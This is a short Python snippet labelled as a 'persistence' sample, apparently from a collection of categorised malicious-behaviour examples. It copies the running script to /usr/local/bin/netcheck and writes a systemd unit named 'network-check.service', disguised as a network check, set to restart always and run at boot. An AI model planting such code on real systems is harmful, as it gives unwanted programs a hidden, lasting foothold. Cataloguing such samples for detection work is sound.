# family: persistence
# a system-wide unit written under /etc/systemd/system
import shutil
import sys

open("/etc/systemd/system/network-check.service", "w").write(
    "[Service]\nExecStart=/usr/local/bin/netcheck\nRestart=always\n[Install]\nWantedBy=multi-user.target\n")
shutil.copy(sys.argv[0], "/usr/local/bin/netcheck")
open("/etc/systemd/system/multi-user.target.wants/network-check.service", "w").close()
